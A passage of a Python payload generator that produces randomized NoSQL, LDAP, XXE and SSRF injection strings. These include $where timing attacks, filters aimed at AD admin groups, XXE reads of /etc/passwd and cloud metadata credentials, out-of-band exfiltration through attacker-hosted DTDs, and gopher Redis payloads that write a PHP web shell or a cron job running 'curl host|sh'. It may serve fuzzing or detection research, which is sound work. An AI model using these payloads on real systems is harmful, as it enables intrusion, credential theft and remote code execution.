    return _pick(r, (2, f"sleep({ms})"), (2, f"this.{f}.match(/^{ch}/)"), (1, "function(){return true}"),
                 (1, f"this.{f}.length>{r.randint(0, 30)}"), (1, f"this['{f[:2]}'+'{f[2:]}'][{r.randint(0, 20)}]=='{ch}'"),
                 (1, f"(function(){{var d=new Date();do{{var c=new Date();}}while(c-d<{ms});return true}})()"),
                 (0.7, "Object.keys(this).length>0"), (0.5, "true"), (0.5, f"this.{f}.startsWith('{ch}')||sleep({ms})"),
                 (0.5, f"\\u0073leep({ms})"), (0.5, "obj.credits-obj.debits<0"))


def _mongo_op(r, f):
    """(operator, operand) that makes a comparison on field `f` always, or selectively, true."""
    ch = r.choice("abcdefghijklmnopqrstuvwxyz")
    return _pick(r, (4, ("$ne", r.choice([None, "", 1, "x", -1, _word(r), False]))), (3, ("$gt", r.choice(["", None, 0, " "]))),
                 (1, ("$gte", r.choice(["", 0]))), (1, ("$lt", r.choice(["~", "zzzzzz", 99999999]))),
                 (3, ("$regex", r.choice([".*", "^", f"^{ch}", f"^{_word(r)[:3]}", ".", "^.{" + str(r.randint(1, 12)) + "}$"]))),
                 (2, ("$nin", r.choice([[], [""], [_word(r)]]))), (1, ("$in", [_word(r), "admin", "root"])),
                 (1.5, ("$exists", r.choice([True, 1]))), (1, ("$not", {"$eq": _word(r)})), (0.7, ("$type", r.choice([2, "string"]))),
                 (0.3, ("$nin", [None])))


def _json(r, obj):
    """JSON text as clients write it: compact or spaced; keys' $ sometimes as \\u0024."""
    s = json.dumps(obj, separators=r.choice([(",", ":"), (", ", ": "), (",", ": ")]))
    if r.random() < 0.15:
        s = s.replace('"$', '"\\u0024')
    return s


def nosql(r):
    f = r.choice(["username", "password", "user", "login", "pin", "token", "email", "pass", "name", "role", "code"])
    g = r.choice(["password", "pass", "pwd", "secret", "otp"])
    form = _pick(r, (5, "json"), (3, "qs"), (2, "js"), (1, "where"), (0.8, "agg"), (0.5, "shell"))
    if form == "json":
        op, v = _mongo_op(r, f)
        cond = {op: v}
        if op == "$regex" and r.random() < 0.3:
            cond["$options"] = r.choice(["i", "si", "m"])
        doc = _pick(r, (3, {f: cond}), (3, lambda: {f: r.choice([_word(r), {"$ne": None}]), g: {"$ne": r.choice(["", None, "x"])}}),
                    (1, lambda: {"$or": [{f: _word(r)}, {f: {"$exists": True}}]}), (1, lambda: {f: _word(r), "$where": _mongo_js(r, g)}),
                    (0.7, lambda: {"$and": [{f: {"$gt": ""}}, {g: {"$regex": "^" + r.choice("abcdefghijklmnop")}}]}),
                    (0.7, lambda: {"$expr": {"$function": {"body": f"function(){{sleep({r.randint(2, 30)}000);return true}}", "args": [], "lang": "js"}}}),
                    (0.5, lambda: {f: {"$in": [_word(r)]}, "$comment": _ident(r)}), (0.4, {"$nor": [{f: "x"}]}))
        return _json(r, doc)
    if form == "qs":
        op, v = _mongo_op(r, f)
        if isinstance(v, (dict, list)) or v is None:
            op, v = r.choice([("$ne", "1"), ("$gt", ""), ("$regex", ".*"), ("$exists", "true"), ("$ne", _word(r))])
        v = "" if v is None else str(v).lower() if isinstance(v, bool) else str(v)
        one = f"{f}[{op}]={v}"
        return _pick(r, (3, one), (2, f"{f}={_word(r)}&{g}[{op}]={v}"), (1.5, f"{f}[$ne]={_word(r)}&{g}[$ne]={_ident(r)}"),
                     (1, f"{f}[$in][]={_word(r)}&{f}[$in][]=admin"), (1, f"{f}[$regex]=^{r.choice('abcdefgh')}&{g}[$gt]="),
                     (0.7, f"{f}[$where]={_mongo_js(r, g)}"), (0.5, f"filter[{f}][{op}]={v}"),
                     (0.5, f"{f}[%24ne]={_word(r)}"), (0.5, f"{f}[$nin][0]={_word(r)}"))
    if form == "js":
        # the value is concatenated into a JavaScript string inside $where or mapReduce
        q = r.choice(["'", '"'])
        js = _mongo_js(r, g)
        return _pick(r, (3, f"{q} || {q}1{q}=={q}1"), (2, f"{q}; return true; var {_ident(r, 1, 1)}={q}"),
                     (2, f"{q} && this.{g}.match(/.*/)//"), (1.5, f"{q};{js};{q}"), (1.5, f"{q}||{js}||{q}"),
                     (1, f"{q}||1==1//"), (1, f"{_word(r)}{q} && this.role=={q}admin{q} && {q}1{q}=={q}1"),
                     (1, f"{q};while(true){{}};{q}"), (1, f"{q};return {q}a{q}=={q}a{q} && {q}{q}=={q}"),
                     (0.7, f"0;return true"), (0.7, f"{q}||Object.keys(this).length>0||{q}"), (0.5, f"{q}+{js}+{q}"))
    if form == "where":
        return _pick(r, (2, lambda: _json(r, {"$where": _mongo_js(r, f)})), (1, f"{{$where: '{_mongo_js(r, f).replace(chr(39), chr(34))}'}}"),
                     (1, f"true, $where: '{r.randint(1, 9)} == {r.randint(1, 9)}'"), (1, lambda: f"{_n(r)}; return true"))
    if form == "agg":
        t = _table(r)
        return _json(r, _pick(r, (2, [{"$lookup": {"from": t, "localField": f, "foreignField": f, "as": _ident(r)}}]),
                              (1, [{"$match": {f: {"$ne": None}}}, {"$project": {g: 1, f: 1}}]),
                              (1, {"$where": _mongo_js(r, g)}), (1, [{"$unionWith": t}]),
                              (0.7, [{"$group": {"_id": None, "all": {"$push": "$" + g}}}]),
                              (0.5, [{"$out": _ident(r)}])))
    t = _table(r)
    return _pick(r, (1, f"db.{t}.find()"), (1, f"db.{t}.find({{{f}:{{$ne:null}}}})"), (0.5, f"db.{t}.drop()"),
                 (0.5, "db.getCollectionNames()"), (0.5, f"db.{t}.find().forEach(function(d){{sleep({r.randint(1, 9)}000)}})"))


# LDAP: RFC 4515 search filters (and RFC 4526 absolute true/false), Active Directory matching rules

_LDAP_ATTRS = ["uid", "cn", "mail", "sn", "givenName", "objectClass", "userPassword", "memberOf", "sAMAccountName",
               "userPrincipalName", "description", "telephoneNumber", "homeDirectory", "uidNumber", "ou", "member",
               "employeeType", "title", "department", "loginShell"]


def _ldap_item(r, attr=None):
    """A filter item that matches (almost) every entry, or probes one value."""
    a = attr or r.choice(_LDAP_ATTRS)
    a = _pick(r, (6, a), (1, lambda: _mixcase(r, a)))
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789")
    return _pick(r, (5, f"({a}=*)"), (2, f"({a}={ch}*)"), (1, f"({a}=*{ch}*)"), (1, "(objectClass=*)"), (1, "(&)"),
                 (0.5, f"({a}>=0)"), (0.5, f"({a}<=z)"), (0.5, f"({a}~={_word(r)})"),
                 (0.7, "(userAccountControl:1.2.840.113556.1.4.803:=2)"), (0.5, "(objectCategory=person)"),
                 (0.5, f"(memberOf:1.2.840.113556.1.4.1941:=cn={r.choice(['Domain Admins', 'Administrators', 'Enterprise Admins'])},cn=Users,dc={_ident(r, 1, 1)},dc=local)"),
                 (0.3, f"({a}:dn:={_word(r)})"), (0.3, f"({a}:caseExactMatch:={_word(r)})"))


def ldap(r):
    w = _pick(r, (4, lambda: _word(r)), (2, "*"), (1, ""), (1, lambda: _word(r) + "*"))
    a, b = r.choice(_LDAP_ATTRS), r.choice(_LDAP_ATTRS)
    it = lambda: _ldap_item(r)  # noqa: E731
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789")
    # The application builds (&(attr=VALUE)(other=...)) or (|(a=VALUE)(b=VALUE)). The value closes the
    # application's item and adds its own; either the whole filter stays balanced, or the first complete
    # filter is the attacker's and the application's tail is left over (ignored, or cut at a NUL byte).
    return _pick(
        r,
        (3, lambda: f"{w})({a}=*"), (2.5, lambda: f"*)({a}=*))(|({a}=*"), (2.5, f"{w})(&)"), (2, f"{w})(|(&))"),
        (2, lambda: f"{w})(|{it()}))"), (1.5, lambda: f"*)(|{it()}{it()}))"), (2, lambda: f"{w}))(|{it()}"),
        (1.5, lambda: f"{w})({b}={ch}*"), (1.5, lambda: f"{w})(userPassword={ch}*"), (1, lambda: f"{w})({b}={ch}*))"),
        (1, f"*)(objectClass=*))(&(objectClass=void"), (1, lambda: f"{w})({a}=*))\x00"),
        (1, lambda: f"{w})(|{it()}(cn=*)))\x00"), (0.7, lambda: f"{w})(|{it()}(cn=*)))%00"), (1, "*)(uid=*))(|(uid=*"),
        (1, f"{w})(!(!({a}=*))))"), (1, lambda: f"{w})(&(objectClass=*)({a}=*)))"), (0.7, lambda: f"*))(|{it()}"),
        (0.7, f"{w})(userAccountControl:1.2.840.113556.1.4.803:=2"), (0.7, lambda: f"{w})({a}=*)(|{it()}"),
        (0.5, lambda: f"{w},ou={r.choice(['admins', 'people', 'system'])},dc={_ident(r, 1, 1)}"),
        (0.5, "*()|&'"), (0.5, lambda: f"{w})(|({a}={_word(r)})({a}=*))"))


# XXE: XML 1.0 document type declarations (general and parameter entities, external
# subsets), XInclude, and the XML formats that carry them (SVG, XSLT, SOAP, RSS)

def _xxe_target(r):
    host = _host(r)
    return _pick(r, (4, lambda: "file:///" + _trav_target(r, "unix")), (1, lambda: "file:///c:/" + _trav_target(r, "win")),
                 (1, "file:///etc/passwd"), (1.5, lambda: f"http://{host}/{_ident(r)}.dtd"),
                 (1, lambda: f"http://{host}/?x={_ident(r)}"), (1, "php://filter/convert.base64-encode/resource=/etc/passwd"),
                 (1, lambda: "php://filter/read=convert.base64-encode/resource=" + r.choice(["index.php", "config.php", "/var/www/html/.env"])),
                 (1, "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
                 (0.7, "netdoc:///etc/passwd"), (0.7, lambda: f"jar:http://{host}/{_ident(r)}.zip!/{_ident(r)}.txt"),
                 (0.7, "expect://id"), (0.5, lambda: f"ftp://{host}:{r.choice([21, 2121])}/{_ident(r)}"),
                 (0.5, "file:///dev/random"), (0.5, "file:///"), (0.5, "/etc/passwd"),
                 (0.5, "gopher://127.0.0.1:6379/_INFO"), (0.4, lambda: f"\\\\{host}\\{_ident(r)}\\x.dtd"))


def xxe(r):
    root = _pick(r, (3, lambda: r.choice(["foo", "data", "root", "user", "order", "request", "item", "search", "product", "message"])),
                 (1, lambda: _ident(r)))
    e, pe, x = _ident(r, 1, 2), _ident(r, 1, 2) + "p", _ident(r)
    tgt = _xxe_target(r)
    host = _host(r)
    q = r.choice(['"', '"', "'"])
    sp = lambda: _pick(r, (8, " "), (1, "  "), (1, "\n"), (0.5, "\t"), (0.5, "\r\n"))  # noqa: E731
    decl = _pick(r, (4, '<?xml version="1.0"?>'), (2, '<?xml version="1.0" encoding="UTF-8"?>'), (2, ""),
                 (0.7, '<?xml version="1.0" encoding="ISO-8859-1"?>'), (0.5, '<?xml version="1.0" standalone="no"?>'),
                 (0.5, "<?xml version='1.0' encoding='utf-8'?>"))
    ent_sys = lambda name, t: f"<!ENTITY{sp()}{name}{sp()}SYSTEM{sp()}{q}{t}{q}>"  # noqa: E731

    def content(ref):
        t = r.choice(["name", "id", "q", "user", "email", "search"])
        return _pick(r, (4, f"<{root}>{ref}</{root}>"), (2, f"<{root}><{t}>{ref}</{t}></{root}>"),
                     (1, f"<{root} id=\"{r.randint(1, 999)}\">{ref}</{root}>"))

    tech = _pick(r, (5, "general"), (1, "public"), (2.5, "param"), (2, "oob"), (1, "errorlocal"), (1, "nested"),
                 (1.5, "external-subset"), (1.5, "xinclude"), (1.5, "svg"), (1.2, "xslt"), (0.8, "lol"), (1, "soap"),
                 (0.6, "cdata"))
    if tech == "general":
        return f"{decl}<!DOCTYPE{sp()}{root}{sp()}[{sp() if r.random() < 0.3 else ''}{ent_sys(e, tgt)}]>{content('&' + e + ';')}"
    if tech == "public":
        return f"{decl}<!DOCTYPE {root} [<!ENTITY {e} PUBLIC \"-//{_ident(r).upper()}//{_ident(r).upper()}//EN\" {q}{tgt}{q}>]>{content('&' + e + ';')}"
    if tech == "param":
        src = f"http://{host}/{x}.dtd" if r.random() < 0.6 else tgt
        tail = r.choice([f"<{root}/>", f"<{root}></{root}>", f"<{root}>{_ident(r)}</{root}>"])
        return f"{decl}<!DOCTYPE {root} [<!ENTITY{sp()}%{sp()}{pe}{sp()}SYSTEM{sp()}{q}{src}{q}>{sp()}%{pe};]>{tail}"
    if tech == "oob":
        f = _pick(r, (3, "file:///etc/passwd"), (1, "file:///etc/hostname"), (1, "php://filter/convert.base64-encode/resource=/etc/passwd"),
                  (1, "file:///c:/windows/win.ini"), (0.5, "file:///proc/self/environ"))
        a, b = _ident(r, 1, 1) + "f", _ident(r, 1, 1) + "d"
        # the external DTD (on the attacker's host) declares the entity that carries %{a}; out
        return (f"{decl}<!DOCTYPE {root} [<!ENTITY % {a} SYSTEM \"{f}\"><!ENTITY % {b} SYSTEM \"http://{host}/{x}.dtd\">%{b};]>"
                f"<{root}/>")
    if tech == "errorlocal":
        dtd, ent = r.choice([("/usr/share/yelp/dtd/docbookx.dtd", "ISOamso"), ("/usr/share/xml/fontconfig/fonts.dtd", "constant"),
                             ("/usr/share/xml/scrollkeeper/dtds/scrollkeeper-omf.dtd", "url.attribute.type")])
        f = r.choice(["file:///etc/passwd", "file:///etc/hostname", "file:///proc/self/environ"])
        return (f"{decl}<!DOCTYPE {root} [<!ENTITY % {pe} SYSTEM \"file://{dtd}\"><!ENTITY % {ent} '<!ENTITY &#x25; file SYSTEM \"{f}\">"
                f"<!ENTITY &#x25; eval \"<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///{x}/&#x25;file;&#x27;>\">&#x25;eval;&#x25;error;'>%{pe};]><{root}/>")
    if tech == "nested":
        return (f"{decl}<!DOCTYPE {root} [<!ENTITY % {pe} \"<!ENTITY {e} SYSTEM '{tgt}'>\">%{pe};]>{content('&' + e + ';')}")
    if tech == "external-subset":
        return _pick(r, (2, f"{decl}<!DOCTYPE {root} SYSTEM \"http://{host}/{x}.dtd\">{content(_ident(r))}"),
                     (1, f"{decl}<!DOCTYPE {root} PUBLIC \"-//{_ident(r).upper()}//DTD {x}//EN\" \"http://{host}/{x}.dtd\">{content(_ident(r))}"),
                     (1, f"{decl}<!DOCTYPE {root} SYSTEM \"{tgt}\">{content(_ident(r))}"))
    if tech == "xinclude":
        xi = r.choice(["xi", "xi", "x", _ident(r, 1, 1)])
        inc = f"<{xi}:include{' parse=' + chr(34) + 'text' + chr(34) if r.random() < 0.7 else ''} href=\"{tgt}\"/>"
        if r.random() < 0.3:
            inc = f"<{xi}:include parse=\"text\" href=\"{tgt}\"><{xi}:fallback>{_ident(r)}</{xi}:fallback></{xi}:include>"
        body = f"<{root} xmlns:{xi}=\"http://www.w3.org/2001/XInclude\">{inc}</{root}>"
        return (decl + body) if r.random() < 0.5 else body
    if tech == "svg":
        return _pick(r, (2, f"{decl}<!DOCTYPE svg [{ent_sys(e, tgt)}]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{r.randint(100, 800)}\" height=\"{r.randint(100, 800)}\"><text x=\"{r.randint(0, 50)}\" y=\"{r.randint(10, 50)}\">&{e};</text></svg>"),
                     (1, f"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{tgt}\" width=\"100\" height=\"100\"/></svg>"),
                     (1, f"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><text><xi:include parse=\"text\" href=\"{tgt}\"/></text></svg>"))
    if tech == "xslt":
        head = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\""
        c = _unix_cmd(r)
        return _pick(r, (2, f"{head}><xsl:template match=\"/\"><xsl:copy-of select=\"document('{tgt}')\"/></xsl:template></xsl:stylesheet>"),
                     (1, head.replace('"1.0"', '"2.0"') + f"><xsl:template match=\"/\"><xsl:value-of select=\"unparsed-text('{tgt}')\"/></xsl:template></xsl:stylesheet>"),
                     (1, f"{head} xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:variable name=\"r\" select=\"rt:getRuntime()\"/><xsl:value-of select=\"rt:exec($r,'{c}')\"/></xsl:template></xsl:stylesheet>"),
                     (1, f"{head} xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','{c}')\"/></xsl:template></xsl:stylesheet>"),
                     (0.7, f"{head}><xsl:template match=\"/\"><xsl:value-of select=\"system-property('xsl:vendor')\"/><xsl:include href=\"http://{host}/{x}.xsl\"/></xsl:template></xsl:stylesheet>"))
    if tech == "lol":
        n, depth = r.randint(5, 10), r.randint(4, 9)
        ents = f"<!ENTITY {e}0 \"{_ident(r, 1, 1)}\">" + "".join(
            f"<!ENTITY {e}{i} \"" + f"&{e}{i - 1};" * n + "\">" for i in range(1, depth + 1))
        return f"{decl}<!DOCTYPE {root} [{ents}]><{root}>&{e}{depth};</{root}>"
    if tech == "soap":
        return (f"{decl}<!DOCTYPE soap:Envelope [{ent_sys(e, tgt)}]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
                f"<soap:Body><{x}><{root}>&{e};</{root}></{x}></soap:Body></soap:Envelope>")
    # CDATA wrapping through parameter entities, so that files with markup characters come back whole
    return (f"{decl}<!DOCTYPE {root} [<!ENTITY % start \"<![CDATA[\"><!ENTITY % file SYSTEM \"{tgt}\">"
            f"<!ENTITY % end \"]]>\"><!ENTITY % dtd SYSTEM \"http://{host}/{x}.dtd\">%dtd;]><{root}>&all;</{root}>")


# SSRF: URL syntax (RFC 3986 and the WHATWG URL parser), every way inet_aton and the
# IPv6 parser accept an address, names that resolve inside, cloud metadata services,
# internal services, and non-HTTP schemes

_SSRF_TARGETS = [
    # (weight, address, kind): loopback and private addresses reach internal services; the
    # link-local and provider addresses are the cloud metadata services
    (5, "127.0.0.1", "local"), (4, "169.254.169.254", "meta"), (1, "100.100.100.200", "meta-ali"), (0.7, "169.254.170.2", "meta-ecs"),
    (0.5, "168.63.129.16", "meta-azwire"), (2, "10.{a}.{b}.{c}", "local"), (1.5, "192.168.{b}.{c}", "local"),
    (1.5, "172.{s}.{b}.{c}", "local"), (1, "0.0.0.0", "local"),
]
_SSRF_META = {
    "meta": ["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data",
             "/latest/dynamic/instance-identity/document", "/latest/api/token",
             "/computeMetadata/v1beta1/instance/service-accounts/default/token",
             "/metadata/instance?api-version=2021-02-01",
             "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
             "/metadata/v1.json", "/opc/v2/instance/", "/openstack/latest/meta_data.json", "/latest/meta-data/hostname"],
    "meta-ali": ["/latest/meta-data/", "/latest/meta-data/ram/security-credentials/"],
    "meta-ecs": ["/v2/credentials/{u}", "/v2/metadata", "/v3/task"],
    "meta-azwire": ["/machine?comp=goalstate", "/?comp=versions"],
}
# (weight, port, paths) of services that listen inside
_SSRF_SERVICES = [
    (6, "", ["/", "/admin", "/server-status", "/actuator/env", "/actuator/heapdump", "/.env", "/console", "/manager/html",
             "/debug/pprof/", "/metrics", "/phpmyadmin/", "/admin/config", "/api/internal/users", "/jenkins/script"]),
    (2, ":8080", ["/", "/manager/html", "/actuator/env", "/script", "/jmx-console/", "/admin"]),
    (1, ":8000", ["/", "/admin/", "/__debug__/"]), (0.7, ":80", ["/", "/admin"]), (0.5, ":443", ["/"]),
    (1, ":9200", ["/_cat/indices", "/_search?q=*", "/_cluster/health", "/_nodes"]),
    (1, ":2375", ["/containers/json", "/v1.24/containers/json", "/images/json", "/info"]),
    (1, ":10250", ["/pods", "/runningpods/", "/metrics"]), (0.7, ":10255", ["/pods"]),
    (0.7, ":8500", ["/v1/agent/self", "/v1/kv/?recurse", "/v1/catalog/services"]),
    (0.5, ":5984", ["/_all_dbs", "/_users/_all_docs"]), (0.5, ":8983", ["/solr/admin/cores?action=STATUS"]),
    (0.3, ":15672", ["/api/overview"]), (0.5, ":9000", ["/"]), (0.4, ":2379", ["/v2/keys/?recursive=true", "/version"]),
    (0.6, ":6379", ["/"]), (0.4, ":11211", ["/"]), (0.5, ":22", ["/"]), (0.4, ":25", ["/"]), (0.4, ":3306", ["/"]),
    (0.3, ":5432", ["/"]), (0.4, ":8081", ["/"]), (0.3, ":4848", ["/"]), (0.3, ":7001", ["/console/"]),
]


def _ip_forms(r, ip):
    """Spellings of an IPv4 address that inet_aton, the WHATWG host parser or an IPv6 parser accept."""
    a, b, c, d = (int(p) for p in ip.split("."))
    n = (a << 24) | (b << 16) | (c << 8) | d
    oct_ = lambda v: "0" + format(v, "o") if v else r.choice(["0", "00"])  # noqa: E731
    hx = lambda v: r.choice(["0x", "0X"]) + format(v, r.choice(["x", "X", "02x"]))  # noqa: E731
    v6 = f"{a << 8 | b:x}:{c << 8 | d:x}"
    return _pick(
        r, (6, ip), (2, str(n)), (2, lambda: hx(n)), (1.5, "0" + format(n, "o")),
        (2, lambda: ".".join(oct_(p) for p in (a, b, c, d))), (1, lambda: ".".join(hx(p) for p in (a, b, c, d))),
        (1.5, lambda: ".".join(r.choice([str(p), oct_(p), hx(p)]) for p in (a, b, c, d))),
        (1.5, f"{a}.{(b << 16) | (c << 8) | d}"), (1, f"{a}.{b}.{(c << 8) | d}"),
        (0.7, lambda: f"{oct_(a)}.{(b << 16) | (c << 8) | d}"), (0.7, lambda: f"{hx(a)}.{hx((b << 16) | (c << 8) | d)}"),
        (2, f"[::ffff:{ip}]"), (1.5, f"[::ffff:{v6}]"), (1, f"[0:0:0:0:0:ffff:{ip}]"), (0.7, f"[::{ip}]"),
        (0.5, f"[0000:0000:0000:0000:0000:ffff:{v6}]"), (0.5, f"[64:ff9b::{ip}]"),
        (0.7, lambda: "".join(chr(0xFF10 + int(ch)) if ch.isdigit() else r.choice(["\uff0e", "\u3002", "."]) for ch in ip)),
        (0.5, lambda: "".join(("\u24ea" if ch == "0" else chr(0x2460 + int(ch) - 1)) if ch.isdigit() else r.choice([".", "\u3002"]) for ch in ip)),
        (0.5, lambda: "".join(f"%{ord(ch):02x}" for ch in ip)), (0.4, ip + "."))


def _ssrf_host(r, local_only=False):
    """(host, port, path): an internal address in one of its spellings, or a name that resolves
    to one, with a port and path that a service there answers."""
    targets = [t for t in _SSRF_TARGETS if t[2] == "local"] if local_only else _SSRF_TARGETS
    _, ip_t, kind = _pick(r, *[(t[0], lambda t=t: t) for t in targets])
    ip = ip_t.format(a=r.randint(0, 255), b=r.randint(0, 255), c=r.randint(1, 254), s=r.randint(16, 31))
    if kind != "local":
        port = r.choice(["", "", "", ":80"])
        path = r.choice(_SSRF_META[kind]).replace("{u}", _ident(r) + "-" + str(r.randint(1000, 9999)))
        if ip == "169.254.169.254" and r.random() < 0.3:
            host = _pick(r, (3, "metadata.google.internal"), (1, "metadata"), (1, "instance-data"), (1, "instance-data.ec2.internal"),
                         (1, "[fd00:ec2::254]"), (1, "169.254.169.254.nip.io"), (0.5, "metadata.google.internal."),
                         (0.5, "169-254-169-254.sslip.io"))
            if host.startswith("metadata") and r.random() < 0.7:
                path = r.choice(["/computeMetadata/v1/instance/service-accounts/default/token",
                                 "/computeMetadata/v1beta1/project/attributes/ssh-keys", "/computeMetadata/v1/?recursive=true"])
            elif host.startswith(("instance-data", "[fd00")):
                path = r.choice(_SSRF_META["meta"][:5])
            return host, port, path
        return _ip_forms(r, ip), port, path
    _, port, paths = _pick(r, *[(t[0], lambda t=t: t) for t in _SSRF_SERVICES])
    path = r.choice(paths)
    if ip == "127.0.0.1" and r.random() < 0.35:
        ip = f"127.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}" if r.random() < 0.3 else ip
        host = _pick(r, (3, "localhost"), (1, "LOCALHOST"), (1, "localhost.localdomain"), (1, "ip6-localhost"),
                     (2, "[::1]"), (1, "[0:0:0:0:0:0:0:1]"), (0.7, "[::]"), (0.5, "[0000::1]"), (0.5, "[::1%25lo]"),
                     (1, f"{ip}.nip.io"), (0.7, f"{ip.replace('.', '-')}.sslip.io"), (0.7, "localtest.me"),
                     (0.7, f"{_ident(r)}.localtest.me"), (0.5, "lvh.me"), (0.5, "localhost."), (0.5, "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3"),
                     (0.5, f"7f000001.{r.randint(0, 255):02x}{r.randint(0, 255):02x}{r.randint(0, 255):02x}{r.randint(0, 255):02x}.rbndr.us"),
                     (1, lambda: _ip_forms(r, ip)))
        return host, port, path
    if r.random() < 0.1 and not local_only:
        return _pick(r, (1, "kubernetes.default.svc"), (1, "kubernetes.default"), (1, f"{r.choice(['redis', 'db', 'mysql', 'elasticsearch', 'vault', 'consul'])}"),
                     (1, f"{r.choice(['internal-api', 'admin', 'billing', 'auth'])}.svc.cluster.local"),
                     (1, f"{r.choice(['intranet', 'jenkins', 'gitlab', 'vault'])}.corp.internal")), "", \
            r.choice(["/", "/api/v1/namespaces/kube-system/secrets", "/v1/secret/data/", "/_cat/indices", "/admin"])
    return _ip_forms(r, ip), port, path


def _resp(*args):
    """A Redis command in RESP, as gopher carries it: percent-encoded."""
    out = f"*{len(args)}\r\n" + "".join(f"${len(a.encode())}\r\n{a}\r\n" for a in args)
    return urllib.parse.quote(out, safe="")


def ssrf(r):
    host, port, path = _ssrf_host(r)
    scheme = _pick(r, (8, "http://"), (2, "https://"), (0.7, "HTTP://"), (0.5, "//"), (0.4, "http:\\\\"), (0.4, "http:/"),
                   (0.3, "http:"), (0.3, "hTtPs://"))
    allowed = r.choice(["example.com", "www.shop.example", "cdn.example.org", "images.example.net", "trusted.example"])
    x = _ident(r)
    tech = _pick(r, (8, "plain"), (1.5, "userinfo"), (1, "fragment"), (1, "redirect"), (1, "subdomain"), (1.5, "gopher"),
                 (1, "dict"), (1.2, "file"), (0.8, "other"), (0.6, "bare"))
    if tech == "plain":
        return f"{scheme}{host}{port}{path}"
    if tech == "userinfo":
        return _pick(r, (3, f"{scheme}{allowed}@{host}{port}{path}"), (1, f"{scheme}{allowed}:{r.randint(1, 9999)}@{host}{port}{path}"),
                     (1, f"{scheme}{_word(r)}:{_ident(r)}@{host}{port}{path}"), (1, f"{scheme}{host}{port}\\@{allowed}{path}"),
                     (0.7, f"{scheme}{allowed}%40{host}{port}{path}"), (0.5, f"{scheme}{host}{port}%23@{allowed}{path}"),
                     (0.5, f"{scheme}{allowed}&@{host}{port}#@{allowed}{path}"))
    if tech == "fragment":
        return _pick(r, (2, f"{scheme}{host}{port}#@{allowed}{path}"), (1, f"{scheme}{host}{port}{path}?@{allowed}"),
                     (1, f"{scheme}{host}{port}{path}#{allowed}"), (1, f"{scheme}{host}{port}{path}?url=https://{allowed}/"))
    if tech == "redirect":
        h = _host(r)
        target = urllib.parse.quote(f"http://{host}{port}{path}", safe=":/") if r.random() < 0.5 else f"http://{host}{port}{path}"
        return _pick(r, (2, f"https://{h}/{r.choice(['redirect', 'r', 'go', 'out'])}?{r.choice(['url', 'to', 'next'])}={target}"),
                     (1, f"http://{h}/{x}.php?{r.choice(['u', 'url', 'dest'])}={target}"),
                     (1, f"https://{allowed}/{r.choice(['logout', 'login', 'redirect'])}?{r.choice(['next', 'return_to', 'continue'])}={target}"))
    if tech == "subdomain":
        ip = r.choice(["127.0.0.1", "169.254.169.254", f"10.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}", "192.168.0.1"])
        return _pick(r, (2, f"{scheme}{allowed}.{ip}.nip.io{port}{path}"), (1, f"{scheme}{allowed}.{ip.replace('.', '-')}.sslip.io{port}{path}"),
                     (1, f"{scheme}{allowed}.localtest.me{port}{path}"), (1, f"{scheme}127.0.0.1.{allowed}.nip.io{path}"))
    if tech in ("gopher", "dict"):
        host = _ssrf_host(r, local_only=True)[0]
    if tech == "gopher":
        h = host
        rk = _ident(r)
        return _pick(r, (2, lambda: f"gopher://{h}:6379/_" + _resp("CONFIG", "SET", "dir", r.choice(["/var/www/html", "/var/spool/cron/crontabs", "/root/.ssh"]))
                                     + _resp("CONFIG", "SET", "dbfilename", r.choice([f"{x}.php", "root", "authorized_keys"]))
                                     + _resp("SET", rk, r.choice(["<?php system($_GET[c]);?>", f"\n\n* * * * * curl {_host(r)}|sh\n\n"]))
                                     + _resp("SAVE")),
                     (1, lambda: f"gopher://{h}:6379/_" + _resp("SLAVEOF", _host(r), str(_port(r)))),
                     (1, f"gopher://{h}:6379/_INFO%0d%0aQUIT%0d%0a"), (1, lambda: f"gopher://{h}:6379/_" + _resp("FLUSHALL")),
                     (1, lambda: f"gopher://{h}:25/_" + urllib.parse.quote(
                         f"HELO {x}\r\nMAIL FROM:<{_word(r)}@{allowed}>\r\nRCPT TO:<{_word(r)}@{allowed}>\r\nDATA\r\nSubject: {x}\r\n\r\n{_ident(r)}\r\n.\r\nQUIT\r\n", safe="")),
                     (1, lambda: f"gopher://{h}:{r.choice([80, 8080])}/_" + urllib.parse.quote(
                         f"POST /admin/{x} HTTP/1.1\r\nHost: {h}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\nrole=root", safe="")),
                     (0.7, lambda: f"gopher://{h}:11211/_" + urllib.parse.quote(f"set {x} 0 0 {len(x)}\r\n{x}\r\n", safe="")))
    if tech == "dict":
        return _pick(r, (2, f"dict://{host}:6379/INFO"), (1, f"dict://{host}:11211/stats"), (1, f"dict://{host}:6379/CONFIG:SET:dir:/root/.ssh"),
                     (1, f"dict://{host}:{r.choice([22, 25, 3306, 5432, 9200])}/"), (0.5, f"dict://{host}:6379/SLAVEOF:{_host(r)}:{_port(r)}"))
    if tech == "file":
        t = _trav_target(r, _pick(r, (3, "unix"), (1, "win")))
        return _pick(r, (3, f"file:///{t}"), (1, f"file://localhost/{t}"), (1, f"FILE:///{t}"), (0.7, f"file:/{t}"),
                     (0.7, f"file://{host}/{t}"), (0.5, f"file:///proc/self/{r.choice(['environ', 'cmdline', 'maps'])}"))
    if tech == "other":
